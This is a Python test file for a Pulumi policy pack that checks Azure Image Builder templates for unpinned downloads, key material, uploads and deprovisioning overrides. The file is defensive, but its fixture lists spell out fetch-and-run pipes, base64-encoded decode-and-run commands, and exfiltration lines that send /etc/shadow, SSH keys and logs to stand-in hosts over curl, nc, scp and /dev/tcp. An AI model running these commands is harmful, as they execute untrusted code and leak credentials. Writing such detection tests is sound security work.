"""The policy pack (`policy/`): each rule passes and fails on hand-built inputs, the real dev/prod synth output passes
every rule, and the pack works through pulumi-policy's analyzer protocol (the path `pulumi preview --policy-pack`
takes). pulumi-policy for Python ships no test harness, so rules run through its public `ResourceValidationArgs`
/ `StackValidationArgs` and, once, through its analyzer servicer with real protobuf requests."""

from __future__ import annotations

import copy
import json
import re
from typing import Any

import jsonschema
import pytest
import yaml
from google.protobuf import struct_pb2
from pulumi.runtime import proto
from pulumi_policy import (
    PolicyResource,
    PolicyResourceOptions,
    ResourceValidationArgs,
    ResourceValidationPolicy,
    StackValidationArgs,
    StackValidationPolicy,
)
from pulumi_policy.policy import _PolicyAnalyzerServicer, EnforcementLevel

from components.offline.synth import synth
from policy.golden_image_rules import (
    CONTRIBUTOR,
    IDENTITY,
    OWNER,
    PACK_NAME,
    POLICIES,
    RBAC_ADMINISTRATOR,
    RESOURCE_GROUP,
    ROLE_ASSIGNMENT,
    ROLE_DEFINITION,
    TEMPLATE,
    USER_ACCESS_ADMINISTRATOR,
)
from tests.conftest import ROOT

SUB = "/subscriptions/00000000-0000-0000-0000-000000000000"
RG = f"{SUB}/resourceGroups/rg-golden-images"
STAGING = f"{SUB}/resourceGroups/rg-aib-staging-x"
IDENTITY_ID = f"{RG}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-aib-x"
OTHER_IDENTITY_ID = f"{RG}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-aib-other"
PRINCIPAL = "d8349265-55dd-5e4c-81e1-309bdb686853"
SHA = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
BY_NAME = {p.name: p for p in POLICIES}


def _opts() -> PolicyResourceOptions:
    return PolicyResourceOptions(False, [], None, [], None, [], None)  # type: ignore[arg-type]


def violations(policy_name: str, resource_type: str, props: dict, config: dict | None = None) -> list[str]:
    policy = BY_NAME[policy_name]
    assert isinstance(policy, ResourceValidationPolicy)
    found: list[str] = []
    args = ResourceValidationArgs(resource_type, props, f"urn:pulumi:test::aib::{resource_type}::r", "r", _opts(),
                                  None, config)
    policy.validate(args, lambda message, urn=None: found.append(message))
    return found


def template(**properties: Any) -> dict:
    base = {
        "imageTemplateName": "x-0123456789", "location": "westeurope", "buildTimeoutInMinutes": 90,
        "identity": {"type": "UserAssigned", "userAssignedIdentities": [IDENTITY_ID]},
        "stagingResourceGroup": STAGING,
        "source": {"type": "PlatformImage", "publisher": "Canonical", "offer": "o", "sku": "s", "version": "latest"},
        "customize": [{"type": "Shell", "name": "baseline", "scriptUri": "https://example.org/b.sh",
                       "sha256Checksum": SHA},
                      {"type": "Shell", "name": "inline", "inline": ["echo hi"]},
                      {"type": "File", "name": "motd", "sourceUri": "https://example.org/motd",
                       "destination": "/tmp/motd", "sha256Checksum": SHA}],
        "validate": {"inVMValidations": [{"type": "PowerShell", "name": "check", "scriptUri": "https://example.org/c.ps1",
                                          "sha256Checksum": SHA},
                                         {"type": "File", "name": "expected", "sourceUri": "https://example.org/e.txt",
                                          "destination": "/tmp/expected.txt", "sha256Checksum": SHA}]},
        "distribute": [{"type": "VHD", "runOutputName": "x-vhd"}],
    }
    base.update(properties)
    return base


def _with_step(path: str, index: int, **changes: Any) -> dict:
    props = copy.deepcopy(template())
    steps = props["customize"] if path == "customize" else props["validate"]["inVMValidations"]
    steps[index].update(changes)
    for key in [k for k, v in changes.items() if v is None]:
        del steps[index][key]
    return props


def test_the_pack_has_the_documented_rules():
    assert [p.name for p in POLICIES] == ["aib-pinned-downloads", "aib-no-key-material", "aib-no-uploads",
                                          "aib-checksum-opt-outs", "aib-https-uris",
                                          "aib-build-timeout",
                                          "aib-build-vm-identities", "aib-deprovision-kept",
                                          "aib-no-broad-role-assignment", "aib-custom-role-scoped",
                                          "aib-identity-least-privilege", "aib-external-template-identity",
                                          "aib-dedicated-staging", "aib-allowed-subscriptions",
                                          "aib-validated-promotion"]
    advisory = {p.name for p in POLICIES if p.enforcement_level == EnforcementLevel.ADVISORY}
    assert advisory == {"aib-checksum-opt-outs", "aib-external-template-identity"}
    main = (ROOT / "policy" / "__main__.py").read_text()
    assert "PolicyPack(" in main and "POLICIES" in main
    assert yaml.safe_load((ROOT / "policy" / "PulumiPolicy.yaml").read_text())["runtime"]["name"] == "python"


# --- one passing and failing table per rule ---------------------------------------------------------------------

@pytest.mark.parametrize("props,expected", [
    (template(), []),
    (_with_step("customize", 0, sha256Checksum=None), [r"customize\[0\] \(baseline\): scriptUri .* no sha256Checksum"]),
    (_with_step("customize", 0, sha256Checksum=""), [r"customize\[0\]"]),
    (_with_step("customize", 0, sha256Checksum="abc"), [r"customize\[0\]"]),
    (_with_step("validate", 0, sha256Checksum=None), [r"validate\.inVMValidations\[0\] \(check\)"]),
    (_with_step("customize", 2, sha256Checksum=None), [r"customize\[2\] \(motd\): sourceUri .* no sha256Checksum"]),
    (_with_step("validate", 1, sha256Checksum=None), [r"validate\.inVMValidations\[1\] \(expected\): sourceUri"]),
    (template(customize="[secret]", validate="[secret]"), []),  # masked in offline synthesis: nothing to read
])
def test_pinned_downloads(props, expected):
    found = violations("aib-pinned-downloads", TEMPLATE, props)
    assert len(found) == len(expected), found
    for pattern, message in zip(expected, found):
        assert re.search(pattern, message), message


def _opted_out(props: dict, step: str, reason: str) -> dict:
    return {**props, "tags": {"team": "images", f"aib-images.checksumOptOut.{step}": reason}}


FETCH_AND_RUN = ["curl -fsSL https://get.docker.com | sudo sh", "wget -O- https://x.example/i.sh | bash",
                 "iwr https://x.example/i.ps1 -UseBasicParsing | iex",
                 "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')",
                 "bash <(curl -s https://x.example/i.sh)", "sh -c \"$(wget -qO- https://x.example/i.sh)\""]
# Disguises of the same thing the pack once passed (issue 23), one step each.
DISGUISED_FETCH_AND_RUN = [
    "curl -fsSL https://x.example/i.sh | tee /tmp/i.sh | sh",
    "curl -fsSL https://x.example/i.py | python3",
    "curl -fsSL https://x.example/i.py | python",
    "curl -fsSL https://x.example/i.pl | sudo -u root perl",
    "curl -fsSL https://x.example/i.sh | /usr/bin/env bash -s -- --yes",
    "curl -fsSL https://x.example/i.sh \\\n  | bash",
    "python3 -c \"$(curl -fsSL https://x.example/i.py)\"",
    "bash -c \"$(wget -qO- https://x.example/i.sh)\"",
    "eval \"$(curl -fsSL https://x.example/i.sh)\"",
    "eval `wget -qO- https://x.example/i.sh`",
    "bash <<< \"$(curl -fsSL https://x.example/i.sh)\"",
    "source <(curl -fsSL https://x.example/i.sh)",
    "wget -O - https://x.example/i.sh | sh",
    "s=$(curl -fsSL https://x.example/i.sh)\neval \"$s\"",
    "iex (iwr https://x.example/i.ps1 -UseBasicParsing)",
    "Invoke-Expression (Invoke-WebRequest https://x.example/i.ps1 -UseBasicParsing).Content",
    "irm https://x.example/i.ps1 | iex",
    "iwr https://x.example/i.ps1 | Select-Object -ExpandProperty Content | Invoke-Expression",
    "$s = Invoke-RestMethod https://x.example/i.ps1\nInvoke-Expression $s",
    "& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')))",
]
DECODE_AND_RUN = [
    "echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2g= | base64 -d | sh",
    "eval \"$(echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2g= | base64 --decode)\"",
    "powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA=",
    "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgAIAAoAGkAdwByACkA')))",
]


@pytest.mark.parametrize("command", FETCH_AND_RUN + DISGUISED_FETCH_AND_RUN + DECODE_AND_RUN)
def test_pinned_downloads_refuses_inline_fetch_and_run(command):
    props = _with_step("customize", 1, inline=["set -e", *command.split("\n")])
    found = violations("aib-pinned-downloads", TEMPLATE, props)
    assert len(found) == 1 and re.match(r"customize\[1\] \(inline\): inline commands (download|decode) ",
                                        found[0]), found
    assert "x.example" not in found[0] and "docker" not in found[0]  # inline commands may hold secrets: not quoted


# Download to a file, then run it: on the next line, after chmod, through cat, an installer, or a later step.
DOWNLOAD_THEN_RUN = [
    ["curl -fsSL -o x.sh https://x.example/x.sh", "bash x.sh"],
    ["curl -fsSL -o x.sh https://x.example/x.sh", "sh x.sh"],
    ["curl -fsSL -o x.sh https://x.example/x.sh", "./x.sh"],
    ["curl -fsSL -o x.sh https://x.example/x.sh", "chmod +x x.sh && ./x.sh"],
    ["curl -fsSLO https://x.example/get.sh && sudo bash get.sh"],
    ["wget -q https://x.example/get.sh", "sudo sh ./get.sh"],
    ["wget -q -O /tmp/g.sh https://x.example/g.sh; sudo /tmp/g.sh --now"],
    ["curl -fsSL https://x.example/g.sh > /tmp/g.sh", "python3 /tmp/g.sh"],
    ["curl -fsSL -o /tmp/g.sh https://x.example/g.sh", "cat /tmp/g.sh | sudo bash"],
    ["curl -fsSL -o /tmp/g.sh https://x.example/g.sh", "install -m 755 /tmp/g.sh /usr/local/bin/setup-agent",
     "/usr/local/bin/setup-agent"],
    ["curl -fsSL -o /tmp/a.deb https://x.example/a.deb", "sudo dpkg -i /tmp/a.deb"],
    ["Invoke-WebRequest https://x.example/i.ps1 -OutFile C:\\i.ps1", "& C:\\i.ps1"],
    ["Invoke-WebRequest https://x.example/i.exe -OutFile C:\\i.exe", "Start-Process C:\\i.exe -Wait"],
    ["(New-Object Net.WebClient).DownloadFile('https://x.example/a.msi', 'C:\\a.msi')", "msiexec /i C:\\a.msi /qn"],
]


@pytest.mark.parametrize("lines", DOWNLOAD_THEN_RUN)
def test_pinned_downloads_refuses_running_a_downloaded_file_unchecked(lines):
    found = violations("aib-pinned-downloads", TEMPLATE, _with_step("customize", 1, inline=lines))
    assert len(found) == 1 and found[0].startswith("customize[1] (inline): inline commands run a file downloaded by "
                                                   "this step without checking"), found
    assert "x.example" not in found[0]


def test_a_file_downloaded_in_one_step_and_run_in_a_later_one_is_refused_at_the_run():
    props = template(customize=[{"type": "Shell", "name": "fetch", "inline": ["curl -fsSL -o /tmp/x.sh https://x.example/x.sh"]},
                                {"type": "Shell", "name": "other", "inline": ["echo hi"]},
                                {"type": "Shell", "name": "run", "inline": ["sudo bash /tmp/x.sh"]}])
    found = violations("aib-pinned-downloads", TEMPLATE, props)
    assert len(found) == 1 and found[0].startswith("customize[2] (run): inline commands run a file downloaded by "
                                                   "customize[0]"), found
    checked = copy.deepcopy(props)
    checked["customize"][1]["inline"] = ["echo \"$SHA  /tmp/x.sh\" | sha256sum -c -"]
    assert violations("aib-pinned-downloads", TEMPLATE, checked) == []


@pytest.mark.parametrize("command", [
    "curl -fsSLo /tmp/i.sh https://x.example/i.sh && echo \"$SHA  /tmp/i.sh\" | sha256sum -c && sh /tmp/i.sh",
    "curl -fsSLo /tmp/i.sh https://x.example/i.sh\necho \"$SHA  /tmp/i.sh\" | sha256sum --check\nchmod +x /tmp/i.sh\n"
    "/tmp/i.sh",
    "Invoke-WebRequest https://x.example/i.exe -OutFile C:\\i.exe\nif ((Get-FileHash C:\\i.exe -Algorithm SHA256).Hash "
    "-ne $sha) { throw 'checksum' }\nStart-Process C:\\i.exe -Wait",
    "curl -s https://x.example/a.json | jq .",
    "curl -s https://x.example/a.json | python3 -m json.tool",
    "curl -s https://x.example/a.json | python3 -c 'import json, sys; print(json.load(sys.stdin)[\"v\"])'",
    "curl -fsSL -o /tmp/a.json https://x.example/a.json\njq . /tmp/a.json\ncat /tmp/a.json",
    "curl -fsSL -o /tmp/x.tgz https://x.example/x.tgz\ntar xzf /tmp/x.tgz -C /opt",
    "v=$(curl -fsSL https://x.example/version.txt)\necho \"$v\"",
    "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip",
    "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip\nExpand-Archive a.zip C:\\a",
    "sudo apt-get update\nsudo apt-get install -y --no-install-recommends jq unzip",
])
def test_checked_downloads_in_inline_commands_pass(command):
    assert violations("aib-pinned-downloads", TEMPLATE, _with_step("customize", 1, inline=command.split("\n"))) == []


@pytest.mark.parametrize("props,step", [
    (_with_step("customize", 0, sha256Checksum=None), "customize[0]"),
    (_with_step("validate", 1, sha256Checksum=None), "validate.inVMValidations[1]"),
    (_with_step("customize", 1, inline=[FETCH_AND_RUN[0]]), "customize[1]"),
])
def test_opt_out_passes_the_mandatory_rule_and_is_reported_with_its_reason(props, step):
    opted = _opted_out(props, step, "vendor installer, rotated daily")
    assert violations("aib-pinned-downloads", TEMPLATE, opted,
                      {"allowedOptOutReasons": ["Vendor installer,  rotated daily"]}) == []
    reported = violations("aib-checksum-opt-outs", TEMPLATE, opted)
    assert len(reported) == 1 and reported[0].startswith(step) and "'vendor installer, rotated daily'" in reported[0]
    assert violations("aib-checksum-opt-outs", TEMPLATE, props) == []  # no opt-out: nothing to report


def test_opt_out_of_another_step_or_empty_reason_does_not_waive():
    props = _with_step("customize", 0, sha256Checksum=None)
    assert len(violations("aib-pinned-downloads", TEMPLATE, _opted_out(props, "customize[2]", "other step"))) == 1
    assert len(violations("aib-pinned-downloads", TEMPLATE, _opted_out(props, "customize[0]", "  "))) == 1
    # a pinned step with an opt-out tag is not reported as unpinned
    assert violations("aib-checksum-opt-outs", TEMPLATE, _opted_out(template(), "customize[0]", "x")) == []


@pytest.mark.parametrize("reason,config,allowed", [
    ("anything at all", None, False),  # no reason is allowed until the organisation lists one
    ("vendor-rotates-content", {"allowedOptOutReasons": []}, False),
    ("because I said so", {"allowedOptOutReasons": ["vendor-rotates-content"]}, False),
    ("vendor-rotates-content-ish", {"allowedOptOutReasons": ["vendor-rotates-content"]}, False),
    ("vendor-rotates-content", {"allowedOptOutReasons": ["vendor-rotates-content"]}, True),
    ("Vendor-Rotates-Content: get.docker.com", {"allowedOptOutReasons": ["vendor-rotates-content"]}, True),
])
def test_opt_out_waives_only_for_a_reason_the_organisation_allows(reason, config, allowed):
    opted = _opted_out(_with_step("customize", 1, inline=[FETCH_AND_RUN[0]]), "customize[1]", reason)
    found = violations("aib-pinned-downloads", TEMPLATE, opted, config)
    assert (found == []) if allowed else len(found) == 1, found
    if not allowed:
        names = (config or {}).get("allowedOptOutReasons") or []
        assert f"reason {reason!r} is not one the organisation allows" in found[0], found
        assert all(repr(n) in found[0] for n in names) and (names or "none (the list is empty)" in found[0])



# --- key material and uploads (issue 23: "a File step that fetches a key and an upload with `curl -T`") -------------

KEYS_BLOB = "https://stkeys.blob.core.windows.net/keys"


def _file(source: str, destination: str = "/tmp/f", name: str = "f") -> dict:
    return {"type": "File", "name": name, "sourceUri": source, "destination": destination, "sha256Checksum": SHA}


def _added(*steps: dict) -> dict:
    return template(customize=[*template()["customize"], *steps])


@pytest.mark.parametrize("step,expected", [
    # A pinned File step is still refused when what it fetches is a private key or a secret.
    (_file(f"{KEYS_BLOB}/id_rsa?sv=2022&sig=S", "/home/packer/id_rsa"),
     r"customize\[3\] \(f\): sourceUri 'https://stkeys.blob.core.windows.net/keys/id_rsa' looks like a private key .*id_rsa"),
    (_file(f"{KEYS_BLOB}/agent.cfg"), r"sourceUri .* looks like a file from a 'keys' folder \(agent.cfg\)"),
    (_file("https://example.org/a/tls.pfx", "C:\\certs\\tls.pfx"), r"looks like a private key or key store \(tls.pfx\)"),
    (_file("https://example.org/a/server-key.pem"), r"server-key.pem"),
    (_file("https://example.org/a/secrets.json", "/opt/app/secrets.json"), r"credential or secret file \(secrets.json\)"),
    (_file("https://example.org/a/blob", "/root/.ssh/id_ed25519"), r"destination '/root/.ssh/id_ed25519' looks like a "
                                                                    r"private key"),
    (_file("https://example.org/a/blob", "/etc/ssh/ssh_host_ed25519_key"), r"ssh_host_ed25519_key"),
    (_file("https://example.org/a/blob", "C:\\Users\\packer\\.aws\\credentials"), r"credential or secret file"),
    ({"type": "Shell", "name": "k", "inline": ["curl -fsSL -o ~/.ssh/id_rsa https://x.example/k"]},
     r"customize\[3\] \(k\): inline commands download what looks like a private key or key store \(id_rsa\)"),
    ({"type": "Shell", "name": "k", "inline": ["wget -q https://x.example/keys/deploy.cfg -O /etc/app.cfg"]},
     r"a file from a 'keys' folder \(deploy.cfg\)"),
    ({"type": "Shell", "name": "k", "inline": ["az storage blob download --auth-mode login --account-name stkeys -c keys "
                                               "-n agent.cfg -f /etc/agent.cfg"]}, r"'keys' folder \(agent.cfg\)"),
    ({"type": "Shell", "name": "k", "inline": ["azcopy copy 'https://x.example/keys/a.cfg?sig=1' /etc/a.cfg"]}, r"'keys'"),
    ({"type": "Shell", "name": "k", "inline": ["pw=$(az keyvault secret show --vault-name kv -n db --query value -o tsv)",
                                               "echo \"$pw\" > /etc/app/db"]}, r"read a secret from a vault"),
    ({"type": "PowerShell", "name": "k", "inline": ["$s = Get-AzKeyVaultSecret -VaultName kv -Name db -AsPlainText"]},
     r"read a secret from a vault"),
    # Public keys, certificates and ordinary files pass.
    (_file("https://packages.microsoft.com/keys/microsoft.asc", "/etc/apt/trusted.gpg.d/microsoft.asc"), None),
    (_file(f"{KEYS_BLOB}/ops.pub", "/home/ops/.ssh/authorized_keys"), None),
    (_file("https://example.org/ca/root-ca.pem", "/usr/local/share/ca-certificates/root-ca.crt"), None),
    (_file("https://example.org/a/tokenizer.json", "/opt/model/tokenizer.json"), None),
    (_file("https://example.org/gcm/git-credential-manager-2.4.1.deb", "/tmp/gcm.deb"), None),  # a product name
    (_file("https://example.org/py/secretstorage-3.3.3-py3-none-any.whl", "/tmp/s.whl"), None),
    (_file("https://example.org/a/client_secret.json", "/tmp/c.json"), r"credential or secret file \(client_secret"),
    ({"type": "Shell", "name": "k", "inline": [
        "curl -fsSL https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor -o /usr/share/keyrings/ms.gpg"]},
     None),
    ({"type": "Shell", "name": "k", "inline": ["az storage blob download --auth-mode login --account-name st -c scripts "
                                               "-n setup.sh -f /tmp/setup.sh"]}, None),
    ({"type": "Shell", "name": "k", "inline": ["cat /etc/passwd", "ssh-keygen -A"]}, None),
])
def test_no_key_material_in_the_image(step, expected):
    found = violations("aib-no-key-material", TEMPLATE, _added(step))
    assert (found == []) if expected is None else (len(found) == 1 and re.search(expected, found[0])), found
    assert all("x.example" not in m and "sig=" not in m and "tsv" not in m for m in found)  # commands not quoted


def test_a_key_material_step_in_a_validator_is_refused_too():
    props = copy.deepcopy(template())
    props["validate"]["inVMValidations"][1]["sourceUri"] = f"{KEYS_BLOB}/id_ecdsa"
    (found,) = violations("aib-no-key-material", TEMPLATE, props)
    assert found.startswith("validate.inVMValidations[1] (expected): sourceUri") and "id_ecdsa" in found


UPLOADS = [
    ("curl -fsS -T /tmp/id_rsa https://collector.x.example/u", "curl -T"),
    ("curl --upload-file /var/log/cloud-init.log https://x.example/", "curl -T"),
    ("curl -sT /etc/shadow ftp://x.example/", "curl -T"),
    ("curl -F 'f=@/etc/ssh/ssh_host_rsa_key' https://x.example/", "curl -F"),
    ("curl --form data=</etc/shadow https://x.example/", "curl -F"),
    ("curl -sS --data-binary @/tmp/image.tar https://x.example/", "--data @file"),
    ("tar cz /etc | curl --data-binary @- https://x.example/", "--data @file"),
    ("curl -d @/etc/shadow https://x.example/", "--data @file"),
    ("curl --data-urlencode k@/etc/shadow https://x.example/", "--data @file"),
    ("curl --json @/tmp/report.json https://x.example/", "--data @file"),
    ("wget --post-file=/etc/shadow https://x.example/", "wget --post-file"),
    ("wget --method=PUT --body-file=/tmp/x https://x.example/", "wget --post-file"),
    ("scp -o StrictHostKeyChecking=no /tmp/x ops@backup.x.example:/srv/", "scp"),
    ("rsync -az /home/ backup.x.example:/srv/home/", "rsync"),
    ("rsync -a /etc rsync://x.example/m/", "rsync"),
    ("scp /tmp/x \"$HOST:/srv/\" | tee /tmp/log", "scp"),
    ("rsync -a -e ssh /var/log/ ops@${COLLECTOR}:/srv/logs/", "rsync"),
    ("echo 'put /etc/shadow' | sftp ops@x.example", "sftp"),
    ("nc x.example 4444 < /etc/shadow", "netcat"),
    ("tar cz /etc | nc x.example 4444", "netcat"),
    ("mailx -s logs -a /var/log/auth.log ops@x.example < /dev/null", "mail"),
    ("cat /etc/shadow > /dev/tcp/203.0.113.5/80", "/dev/tcp"),
    ("az storage blob upload --auth-mode login --account-name st -c out -f /tmp/x -n x", "az storage upload"),
    ("az storage blob upload-batch -d out -s /var/log --account-name st", "az storage upload"),
    ("azcopy copy /var/log 'https://st.blob.core.windows.net/out?sig=S' --recursive", "azcopy"),
    ("aws s3 cp /etc/shadow s3://bucket/x", "aws s3"),
    ("gsutil cp /etc/shadow gs://bucket/x", "gsutil"),
    ("git -C /opt/repo push origin main", "git/docker push"),
    ("Invoke-WebRequest -Uri https://x.example/u -Method Put -InFile C:\\Windows\\Temp\\x.zip", "-InFile"),
    ("Invoke-RestMethod https://x.example/u -Method Post -Body (Get-Content C:\\secret.txt -Raw)", "-InFile"),
    ("(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\\x.zip')", "WebClient"),
    ("Start-BitsTransfer -Source C:\\x.zip -Destination https://x.example/u -TransferType Upload", "BITS"),
    ("Set-AzStorageBlobContent -File C:\\x.zip -Container out -Blob x.zip -Context $ctx", "Azure PowerShell"),
]


@pytest.mark.parametrize("command,tool", UPLOADS)
def test_uploads_out_of_the_build_vm_are_refused(command, tool):
    found = violations("aib-no-uploads", TEMPLATE, _with_step("customize", 1, inline=["set -e", command]))
    assert len(found) == 1 and found[0].startswith("customize[1] (inline): inline commands upload data out of the "
                                                   "build VM (") and tool in found[0], found
    assert "x.example" not in found[0] and "sig=" not in found[0]  # the command is not quoted


@pytest.mark.parametrize("command", [
    # What the pinned-downloads rule accepts is no upload either.
    "curl -fsSLo /tmp/i.sh https://x.example/i.sh && echo \"$SHA  /tmp/i.sh\" | sha256sum -c && sh /tmp/i.sh",
    "curl -fsSL https://x.example/a.tgz -o /tmp/a.tgz\necho \"$SHA  /tmp/a.tgz\" | sha256sum -c\ntar xzf /tmp/a.tgz",
    "curl -s https://x.example/a.json | jq .",
    "curl -fsS -X POST -H 'Content-Type: application/json' -d '{\"state\":\"built\"}' https://x.example/hook",
    "curl -fsS -d 'owner=ops@x.example' https://x.example/hook",
    "curl -fsSL -XPUT https://x.example/flag",
    "scp ops@x.example:/srv/tool.tgz /tmp/",
    "rsync -a /opt/src/ /opt/dst/",
    "azcopy copy 'https://st.blob.core.windows.net/in/x.tgz?sig=S' /tmp/x.tgz",
    "aws s3 cp s3://bucket/tool.tgz /tmp/tool.tgz",
    "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip",
    "git clone --depth 1 https://x.example/repo.git /opt/repo",
    "git config --system push.default simple",
    "sudo apt-get update\nsudo apt-get install -y netcat-openbsd",
    "sudo apt-get install -y netcat-openbsd mailutils < /dev/null",
    "ls -a /var/mail -a",
])
def test_downloads_and_literal_posts_are_not_uploads(command):
    assert violations("aib-no-uploads", TEMPLATE, _with_step("customize", 1, inline=command.split("\n"))) == []


def test_the_reviewed_case_a_key_fetched_and_uploaded_is_refused_by_both_rules():
    """Issue 23's review: a File step fetching a key from a `keys` container, then `curl -T` sending it out."""
    props = template(customize=[_file(f"{KEYS_BLOB}/id_rsa", "/tmp/id_rsa", name="key"),
                                {"type": "Shell", "name": "send", "inline": ["curl -fsS -T /tmp/id_rsa https://x.example/"]}])
    (key,) = violations("aib-no-key-material", TEMPLATE, props)
    (upload,) = violations("aib-no-uploads", TEMPLATE, props)
    assert key.startswith("customize[0] (key): sourceUri") and upload.startswith("customize[1] (send): inline commands "
                                                                                   "upload")
    # The checksum rule alone passed it (the File step is pinned, curl -T runs nothing).
    assert violations("aib-pinned-downloads", TEMPLATE, props) == []


@pytest.mark.parametrize("policy,tag,step", [
    ("aib-no-uploads", "aib-images.uploadOptOut.customize[1]",
     {"type": "Shell", "name": "send", "inline": ["curl -fsS -T /var/log/build.log https://x.example/"]}),
    ("aib-no-key-material", "aib-images.keyMaterialOptOut.customize[1]", _file(f"{KEYS_BLOB}/agent.cfg", name="send")),
])
def test_upload_and_key_opt_outs_waive_only_their_rule_for_an_allowed_reason(policy, tag, step):
    props = template(customize=[template()["customize"][0], step])
    assert len(violations(policy, TEMPLATE, props)) == 1
    opted = {**props, "tags": {tag: "log-collector: build diagnostics"}}
    allowed = {"allowedOptOutReasons": ["log-collector"]}
    assert violations(policy, TEMPLATE, opted, allowed) == []
    (refused,) = violations(policy, TEMPLATE, opted, {"allowedOptOutReasons": ["vendor-rotates-content"]})
    assert "reason 'log-collector: build diagnostics' is not one the organisation allows" in refused
    assert len(violations(policy, TEMPLATE, opted)) == 1  # nothing is allowed until the organisation lists it
    # Another rule's opt-out (a checksum waiver, the other new rule's tag) waives nothing here.
    other = "aib-images.checksumOptOut.customize[1]" if "upload" in tag else "aib-images.uploadOptOut.customize[1]"
    assert len(violations(policy, TEMPLATE, {**props, "tags": {other: "log-collector"}}, allowed)) == 1
    (reported,) = violations("aib-checksum-opt-outs", TEMPLATE, opted)
    assert reported.startswith("customize[1] (send): ") and "by opt-out: 'log-collector: build diagnostics'" in reported


def test_policy_messages_leave_sas_tokens_out():
    sas = "https://acct.blob.core.windows.net/c/b.sh?sv=2022-11-02&sp=r&sig=SECRETSIG%3D"
    props = _with_step("customize", 0, sha256Checksum=None, scriptUri=sas.replace("https", "http"))
    found = violations("aib-pinned-downloads", TEMPLATE, props) + violations("aib-https-uris", TEMPLATE, props)
    assert len(found) == 2 and all("SECRETSIG" not in m and "sig=" not in m for m in found), found


@pytest.mark.parametrize("props,expected", [
    (template(), 0),
    (_with_step("customize", 0, scriptUri="http://example.org/b.sh"), 1),
    (_with_step("customize", 2, sourceUri="http://example.org/motd"), 1),
    (_with_step("validate", 0, scriptUri="ftp://example.org/c.ps1"), 1),
    (_with_step("customize", 0, scriptUri="HTTPS://example.org/b.sh"), 0),
])
def test_https_uris(props, expected):
    found = violations("aib-https-uris", TEMPLATE, props)
    assert len(found) == expected, found
    assert all("is not https" in m for m in found)


@pytest.mark.parametrize("minutes,config,expected", [
    (90, None, None),
    (480, None, None),
    (None, None, "is not set"),
    (0, None, "is not set"),
    (481, None, "more than the 480 minutes"),
    (900.0, None, "buildTimeoutInMinutes is 900, more than"),  # a number through the analyzer protocol is a float
    (300, {"maxMinutes": 240}, "more than the 240 minutes"),
])
def test_build_timeout(minutes, config, expected):
    props = template()
    if minutes is None:
        del props["buildTimeoutInMinutes"]
    else:
        props["buildTimeoutInMinutes"] = minutes
    found = violations("aib-build-timeout", TEMPLATE, props, config)
    assert (found == []) if expected is None else (len(found) == 1 and expected in found[0]), found


@pytest.mark.parametrize("identities,config,bad", [
    (None, None, []),
    ([], None, []),
    ([OTHER_IDENTITY_ID], None, [0]),
    ([OTHER_IDENTITY_ID], {"allowedIdentities": [OTHER_IDENTITY_ID.upper() + "/"]}, []),
    ([IDENTITY_ID, OTHER_IDENTITY_ID], {"allowedIdentities": [OTHER_IDENTITY_ID]}, [0]),
])
def test_build_vm_identities(identities, config, bad):
    props = template(vmProfile={"vmSize": "Standard_D2s_v5"} if identities is None else
                     {"vmSize": "Standard_D2s_v5", "userAssignedIdentities": identities})
    found = violations("aib-build-vm-identities", TEMPLATE, props, config)
    assert [int(re.search(r"userAssignedIdentities\[(\d+)\]", m).group(1)) for m in found] == bad, found


def _override(step: dict) -> dict:
    return template(customize=[*template()["customize"], step])


LINUX_OVERRIDE = "cat > /tmp/DeprovisioningScript.sh <<'EOF'\n#!/bin/bash\n{}\nEOF"
WINDOWS_OVERRIDE = "Set-Content -Path 'c:\\DeprovisioningScript.ps1' -Value @'\n{}\n'@"


@pytest.mark.parametrize("step,expected", [
    ({"type": "Shell", "name": "tidy", "inline": ["apt-get clean"]}, None),  # no override: the service's default runs
    # Disguised paths of the override are the override (issue 23).
    *[({"type": "File", "name": "d", "sourceUri": "https://example.org/d.sh", "sha256Checksum": SHA,
        "destination": path}, "downloaded file the policy cannot read")
      for path in ("/tmp/./DeprovisioningScript.sh", "//tmp//DeprovisioningScript.sh",
                   "/var/../tmp/DeprovisioningScript.sh", "DeprovisioningScript.sh", "./DeprovisioningScript.sh",
                   "C:\\Windows\\..\\DeprovisioningScript.ps1", "c:/./DeprovisioningScript.ps1")],
    ({"type": "File", "name": "d", "sourceUri": "https://example.org/d.sh", "sha256Checksum": SHA,
      "destination": "/tmp/x/DeprovisioningScript.sh"}, None),  # another folder: not the override
    ({"type": "Shell", "name": "d", "inline": ["echo 'exit 0' > /tmp/./Deprovisioning''Script.sh"]}, "waagent -force"),
    ({"type": "Shell", "name": "d", "inline": ["cd /tmp && echo 'exit 0' > ./Deprovisioning\\Script.sh"]}, "waagent"),
    ({"type": "Shell", "name": "d", "inline": [LINUX_OVERRIDE.format(
        "/usr/sbin/waagent -force -deprovision+user && export HISTSIZE=0 && sync")]}, None),
    ({"type": "PowerShell", "name": "d", "inline": [WINDOWS_OVERRIDE.format(
        "& $env:SystemRoot\\System32\\Sysprep\\Sysprep.exe /oobe /generalize /quiet /quit /mode:vm")]}, None),
    ({"type": "Shell", "name": "d", "inline": [LINUX_OVERRIDE.format("echo skipped"), "chmod +x x"]},
     r"customize\[3\] \(d\): writes /tmp/DeprovisioningScript.sh without generalizing"),
    ({"type": "Shell", "name": "d", "inline": ["echo 'exit 0' > /tmp/DeprovisioningScript.sh"]}, "waagent -force"),
    ({"type": "PowerShell", "name": "d", "inline": [WINDOWS_OVERRIDE.format("Write-Host no sysprep")]}, "Sysprep.exe"),
    ({"type": "File", "name": "d", "sourceUri": "https://example.org/d.ps1", "sha256Checksum": SHA,
      "destination": "C:/DeprovisioningScript.ps1"}, "downloaded file the policy cannot read"),
])
